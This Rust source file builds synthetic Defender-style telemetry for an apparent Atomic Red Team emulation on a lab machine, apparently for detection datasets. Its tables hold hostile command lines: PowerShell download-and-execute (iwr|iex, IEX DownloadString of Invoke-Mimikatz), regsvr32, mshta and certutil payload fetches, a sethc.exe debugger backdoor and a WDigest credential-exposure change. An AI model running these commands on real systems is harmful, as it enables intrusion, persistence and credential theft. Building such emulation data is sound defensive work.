//! What the emulation run leaves in the lab machine's registry, image loads and Defender events,
//! and the few tests that reach the internet: Atomic Red Team fetches its scriptlets from GitHub.
//! `emulation.rs` runs the tests; `emulation_traces.rs` has their files and connections.

use serde_json::json;

use super::activity::{set_device, set_file, set_initiating, Proc};
use super::background::{table, Background, Builders, HOUR, MINUTE};
use crate::results::datetime::TICKS_PER_SECOND;

const GITHUB: (&str, &str) = ("raw.githubusercontent.com", "185.199.108.133");

/// (key, value name, value data, program, its command line): one registry write per test.
const REGISTRY: &[(&str, &str, &str, &str, &str)] = &[
    // T1204.004, the "paste this in the Run box" lure: Explorer keeps what was typed in RunMRU.
    (
        r"HKEY_CURRENT_USER\S-1-5-21-1004\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU",
        "a",
        r"powershell -w hidden -nop -c iwr http://lab-web01.contoso.com/art/cf.ps1 | iex\1",
        "explorer.exe",
        r"C:\Windows\Explorer.EXE",
    ),
    // T1546.008, accessibility features: a debugger on sethc.exe opens a SYSTEM prompt.
    (
        r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe",
        "Debugger",
        r"C:\Windows\System32\cmd.exe",
        "reg.exe",
        r#"reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /t REG_SZ /d "C:\Windows\System32\cmd.exe" /f"#,
    ),
    // T1112, WDigest keeps clear-text passwords in memory again.
    (
        r"HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest",
        "UseLogonCredential",
        "1",
        "reg.exe",
        r"reg add HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f",
    ),
    // T1547.001, a Run key.
    (
        r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
        "Atomic Red Team",
        r"C:\Path\AtomicRedTeam.exe",
        "reg.exe",
        r#"REG ADD "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run" /V "Atomic Red Team" /t REG_SZ /F /D "C:\Path\AtomicRedTeam.exe""#,
    ),
];

/// (program, command line, where it connects, its address, port): tests that fetch a payload.
const FETCHES: &[(&str, &str, &str, &str, i64)] = &[
    (
        "regsvr32.exe",
        "regsvr32.exe /s /u /i:https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1218.010/src/RegSvr32.sct scrobj.dll",
        GITHUB.0,
        GITHUB.1,
        443,
    ),
    (
        "mshta.exe",
        "mshta.exe https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1218.005/src/T1218.005.hta",
        GITHUB.0,
        GITHUB.1,
        443,
    ),
    (
        "powershell.exe",
        "powershell.exe -Command Invoke-WebRequest https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1003.001/src/Out-Minidump.ps1 -OutFile C:\\Windows\\Temp\\om.ps1",
        GITHUB.0,
        GITHUB.1,
        443,
    ),
    // The lab web server named by address, as the test's argument gives it.
    (
        "certutil.exe",
        r"certutil.exe -urlcache -split -f http://10.1.9.30/art/payload.b64 C:\Windows\Temp\payload.b64",
        "",
        "10.1.9.30",
        80,
    ),
];

impl Background<'_> {
    pub fn emulation_host(&mut self, tables: &mut Builders) {
        let lab = self.world.device("lab-emul01").clone();
        let admin = self.world.user("grady.vance").clone();
        let start = self.end - 20 * HOUR;
        let proc = |file: &str, command: &str, at: i64| Proc {
            file: file.into(),
            folder: r"C:\Windows\System32".into(),
            command: command.into(),
            pid: 26_000 + (at % 991),
            created: at - 2 * TICKS_PER_SECOND,
            account: admin.clone(),
            integrity: "High",
            parent_file: "cmd.exe".into(),
            parent_pid: 25_990,
        };
        for (i, (key, name, data, program, command)) in REGISTRY.iter().enumerate() {
            let at = start + (20 + i as i64 * 3) * MINUTE;
            let report = self.next_report();
            let b = table(tables, "DeviceRegistryEvents");
            b.row(at);
            set_device(b, &lab);
            set_initiating(b, self.seed, &proc(program, command, at));
            b.text("ActionType", "RegistryValueSet")
                .text("RegistryKey", key)
                .text("RegistryValueName", name)
                .text("RegistryValueData", data)
                .text("RegistryValueType", "String")
                .long("ReportId", report);
        }
        for (i, (program, command, url, ip, port)) in FETCHES.iter().enumerate() {
            let at = start + (40 + i as i64 * 2) * MINUTE;
            let public = !ip.starts_with("10.");
            let report = self.next_report();
            let b = table(tables, "DeviceNetworkEvents");
            b.row(at);
            set_device(b, &lab);
            set_initiating(b, self.seed, &proc(program, command, at));
            b.text("ActionType", "ConnectionSuccess")
                .text("RemoteIP", ip)
                .long("RemotePort", *port)
                .text("RemoteUrl", url)
                .text("LocalIP", &lab.ip)
                .long("LocalPort", 51_000 + i as i64)
                .text("Protocol", "Tcp")
                .text("LocalIPType", "Private")
                .text("RemoteIPType", if public { "Public" } else { "Private" })
                .long("ReportId", report);
        }
        // Network protection inspects the plain HTTP download of the test's executable.
        let fetch = proc(
            "powershell.exe",
            "powershell.exe -Command Invoke-WebRequest -Uri http://lab-web01.contoso.com/art/tim.exe -OutFile tim.EXE",
            start + 29 * MINUTE,
        );
        let report = self.next_report();
        let b = table(tables, "DeviceNetworkEvents");
        b.row(start + 29 * MINUTE);
        set_device(b, &lab);
        set_initiating(b, self.seed, &fetch);
        b.text("ActionType", "NetworkSignatureInspected")
            .text("RemoteIP", "10.1.9.30")
            .long("RemotePort", 80)
            .text("LocalIP", &lab.ip)
            .text("Protocol", "Tcp")
            .text("RemoteIPType", "Private")
            .json("AdditionalFields", json!({"SignatureName": "HTTP_Client", "SignatureMatchedContent": "GET /art/tim.exe HTTP/1.1", "SamplePacketContent": "GET /art/tim.exe HTTP/1.1\r\nHost: lab-web01.contoso.com"}))
            .long("ReportId", report);
        // `powershell -version 2` loads the version 2 automation assembly.
        let v2 = proc(
            "powershell.exe",
            "powershell.exe -version 2 -Command Get-Host",
            start + 33 * MINUTE,
        );
        let report = self.next_report();
        let b = table(tables, "DeviceImageLoadEvents");
        b.row(start + 33 * MINUTE);
        set_device(b, &lab);
        set_file(
            b,
            self.seed,
            "ImageLoaded",
            r"C:\Windows\assembly\GAC_MSIL\System.Management.Automation\1.0.0.0__31bf3856ad364e35",
            "System.Management.Automation.dll",
            2_404_352,
        );
        set_initiating(b, self.seed, &v2);
        b.long("ReportId", report);
        self.emulation_defender_events(tables, start);
    }

    /// Defender's own events of the run: the test group, the MSBuild injection, the Mimikatz
    /// script it caught, the settings query.
    fn emulation_defender_events(&mut self, tables: &mut Builders, start: i64) {
        let lab = self.world.device("lab-emul01").clone();
        let admin = self.world.user("grady.vance").clone();
        let msbuild = r"C:\Windows\Microsoft.NET\Framework\v4.0.30319";
        let events = [
            (
                "SecurityGroupCreated",
                "net.exe",
                "net localgroup art-group /add",
                "",
                "",
                json!({"GroupName": "art-group", "GroupDomainName": "LAB-EMUL01", "GroupSid": "S-1-5-21-3623811015-3361044348-30300820-1014"}),
            ),
            (
                "CreateRemoteThreadApiCall",
                "MSBuild.exe",
                r"C:\Windows\Microsoft.NET\Framework\v4.0.30319\MSBuild.exe C:\programdata\art\T1127.csproj",
                "MSBuild.exe",
                msbuild,
                json!({}),
            ),
            (
                "AntivirusDetection",
                "powershell.exe",
                "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://lab-web01.contoso.com/art/Invoke-Mimikatz.ps1')",
                "Invoke-Mimikatz.ps1",
                r"C:\Users\grady.vance\AppData\Local\Temp",
                json!({"ThreatName": "HackTool:PowerShell/Mimikatz", "WasRemediated": true, "WasExecutingWhileDetected": true, "Action": "quarantine"}),
            ),
            (
                "PowerShellCommand",
                "powershell.exe",
                "powershell.exe -Command Get-MpPreference",
                "",
                "",
                json!({"Command": "Get-MpPreference"}),
            ),
        ];
        for (i, (action, program, command, file, folder, fields)) in events.into_iter().enumerate()
        {
            let at = start + (50 + i as i64 * 2) * MINUTE;
            let actor = Proc {
                file: program.into(),
                folder: r"C:\Windows\System32".into(),
                command: command.into(),
                pid: 27_000 + i as i64 * 8,
                created: at - 3 * TICKS_PER_SECOND,
                account: admin.clone(),
                integrity: "High",
                parent_file: "powershell.exe".into(),
                parent_pid: 26_990,
            };
            let report = self.next_report();
            let b = table(tables, "DeviceEvents");
            b.row(at);
            set_device(b, &lab);
            set_initiating(b, self.seed, &actor);
            b.text("ActionType", action)
                .json("AdditionalFields", fields)
                .long("ReportId", report);
            if !file.is_empty() {
                b.text("FileName", file)
                    .text("FolderPath", &format!(r"{folder}\{file}"));
            }
        }
    }
}
